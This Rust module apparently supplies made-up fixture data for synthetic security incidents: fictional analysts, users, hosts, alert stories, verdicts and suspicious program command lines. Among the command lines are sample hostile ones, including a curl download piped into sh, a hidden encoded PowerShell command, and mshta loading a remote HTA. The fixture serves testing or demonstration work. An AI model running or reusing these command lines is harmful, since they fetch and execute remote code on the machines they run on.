//! The people, machines and stories that incidents are made of. All of them are made up.

/// Who works on incidents.
pub(crate) const ANALYSTS: [&str; 6] = [
    "amelia.north@contoso.com",
    "bruno.keller@contoso.com",
    "chidi.okafor@contoso.com",
    "dana.lindqvist@contoso.com",
    "soc-tier2@contoso.com",
    "on-call@contoso.com",
];

/// Whom it happens to: account name and display name.
pub(crate) const PEOPLE: [(&str, &str); 8] = [
    ("hgarcia", "Helena Garcia"),
    ("tnguyen", "Tuan Nguyen"),
    ("mschmidt", "Marta Schmidt"),
    ("oadeyemi", "Ola Adeyemi"),
    ("jrossi", "Jacopo Rossi"),
    ("kpatel", "Kiran Patel"),
    ("svc-backup", "Backup Service"),
    ("lmoreau", "Léa Moreau"),
];

pub(crate) const HOSTS: [(&str, &str, u32, &str); 6] = [
    ("fin-lt-0142", "Windows11", 26100, "24H2"),
    ("hr-ws-0077", "Windows10", 19045, "22H2"),
    ("srv-dc-02", "WindowsServer2022", 20348, "21H2"),
    ("web-fe-11", "Linux", 0, "Ubuntu 24.04"),
    ("mac-design-5", "macOS", 0, "15.3"),
    ("build-agent-3", "WindowsServer2025", 26100, "24H2"),
];

/// Program, folder, publisher, command line.
pub(crate) const PROGRAMS: [(&str, &str, &str, &str); 5] = [
    (
        "powershell.exe",
        r"C:\Windows\System32\WindowsPowerShell\v1.0",
        "Microsoft Corporation",
        r#""powershell.exe" -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"#,
    ),
    (
        "rundll32.exe",
        r"C:\Windows\System32",
        "Microsoft Corporation",
        r"rundll32.exe C:\Users\Public\cache.dat,Entry",
    ),
    (
        "invoice_4471.pdf.exe",
        r"C:\Users\Public\Downloads",
        "",
        r#""C:\Users\Public\Downloads\invoice_4471.pdf.exe" /s"#,
    ),
    ("curl", "/usr/bin", "", "curl -s http://203.0.113.88/i.sh | sh"),
    (
        "mshta.exe",
        r"C:\Windows\System32",
        "Microsoft Corporation",
        "mshta.exe https://updates.example.net/a.hta",
    ),
];

pub(crate) const TAGS: [&str; 6] =
    ["VIP", "Phishing wave 7", "Red team", "Needs review", "Customer data", "EMEA"];

pub(crate) const COMMENTS: [&str; 5] = [
    "Called the user, who did not start this.",
    "Device isolated, waiting for the forensics image.",
    "Same sender as last week; blocked at the gateway.",
    "Looks like the nightly backup job. Checking with the owner.",
    "Password reset and sessions revoked.",
];

pub(crate) const SEVERITIES: [&str; 4] = ["informational", "low", "medium", "high"];

/// Classification and a determination that belongs to it.
pub(crate) const VERDICTS: [(&str, &str); 8] = [
    ("truePositive", "malware"),
    ("truePositive", "phishing"),
    ("truePositive", "compromisedAccount"),
    ("truePositive", "multiStagedAttack"),
    ("falsePositive", "notMalicious"),
    ("falsePositive", "notEnoughDataToValidate"),
    ("informationalExpectedActivity", "securityTesting"),
    ("informationalExpectedActivity", "lineOfBusinessApplication"),
];

/// One kind of alert.
pub(crate) struct Story {
    pub(crate) title: &'static str,
    pub(crate) description: &'static str,
    pub(crate) incident: &'static str,
    pub(crate) category: &'static str,
    pub(crate) technique: &'static str,
    /// First letters of the alert's id, which tell the product.
    pub(crate) prefix: &'static str,
    pub(crate) service: &'static str,
    pub(crate) detection: &'static str,
    pub(crate) product: &'static str,
}

pub(crate) const STORIES: [Story; 7] = [
    Story {
        title: "Suspicious PowerShell command line",
        description: "A command line that hides what it runs was started on this device.",
        incident: "Execution incident on one endpoint",
        category: "Execution",
        technique: "T1059.001",
        prefix: "da",
        service: "microsoftDefenderForEndpoint",
        detection: "microsoftDefenderForEndpoint",
        product: "Microsoft Defender for Endpoint",
    },
    Story {
        title: "Ransomware behavior was blocked",
        description: "A process began to rewrite many files and was stopped by the antivirus.",
        incident: "Multi-stage incident involving Impact on multiple endpoints",
        category: "Impact",
        technique: "T1486",
        prefix: "da",
        service: "microsoftDefenderForEndpoint",
        detection: "antivirus",
        product: "Microsoft Defender for Endpoint",
    },
    Story {
        title: "Email messages with a malicious URL removed after delivery",
        description: "Messages with a link that turned out to be malicious were taken out of mailboxes.",
        incident: "Phishing mail reached several mailboxes",
        category: "InitialAccess",
        technique: "T1566.002",
        prefix: "fa",
        service: "microsoftDefenderForOffice365",
        detection: "microsoftDefenderForOffice365",
        product: "Microsoft Defender for Office 365",
    },
    Story {
        title: "Suspected use of a stolen Kerberos ticket",
        description: "A ticket granted to one computer was used from another one.",
        incident: "Lateral movement by one user",
        category: "LateralMovement",
        technique: "T1550.003",
        prefix: "aa",
        service: "microsoftDefenderForIdentity",
        detection: "microsoftDefenderForIdentity",
        product: "Microsoft Defender for Identity",
    },
    Story {
        title: "Mass download by a single user",
        description: "A user downloaded far more files than in the thirty days before.",
        incident: "Exfiltration from a cloud application by one user",
        category: "Exfiltration",
        technique: "T1567.002",
        prefix: "ca",
        service: "microsoftDefenderForCloudApps",
        detection: "cloudAppSecurity",
        product: "Microsoft Defender for Cloud Apps",
    },
    Story {
        title: "Sign-in from an anonymous IP address",
        description: "A user signed in from an address known to hide where its users are.",
        incident: "Initial access incident involving one user",
        category: "InitialAccess",
        technique: "T1078.004",
        prefix: "ad",
        service: "azureAdIdentityProtection",
        detection: "azureAdIdentityProtection",
        product: "Microsoft Entra ID Protection",
    },
    Story {
        title: "Firewall allowed traffic to a listed address",
        description: "A scheduled rule matched firewall logs against indicators of compromise.",
        incident: "Command and control traffic seen by a scheduled rule",
        category: "CommandAndControl",
        technique: "T1071.001",
        prefix: "sn",
        service: "microsoftSentinel",
        detection: "scheduledAlerts",
        product: "Microsoft Sentinel",
    },
];
